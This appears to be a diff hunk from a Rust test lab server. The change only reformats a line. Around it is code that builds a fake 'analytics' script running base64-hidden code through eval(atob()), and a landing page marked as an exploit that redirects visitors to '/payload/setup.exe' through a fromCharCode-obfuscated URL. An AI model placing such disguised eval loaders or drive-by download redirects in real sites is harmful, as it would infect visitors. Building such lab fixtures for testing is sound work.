@@ -149,7 +149,10 @@ fn router(lab: Lab) -> Router {
         "/* analytics */ (function(){{ var s = '{}'; eval(atob(s)); }})();",
         BASE64.encode(hidden.as_bytes())
     );
-    let to_pe: Vec<String> = "/payload/setup.exe".bytes().map(|b| b.to_string()).collect();
+    let to_pe: Vec<String> = "/payload/setup.exe"
+        .bytes()
+        .map(|b| b.to_string())
+        .collect();
     let landing = format!(
         "<!-- {EXPLOIT_MARKER} --><script>var u = String.fromCharCode({}); window.location = u;\n\
          location.href = String.fromCharCode({});</script>",
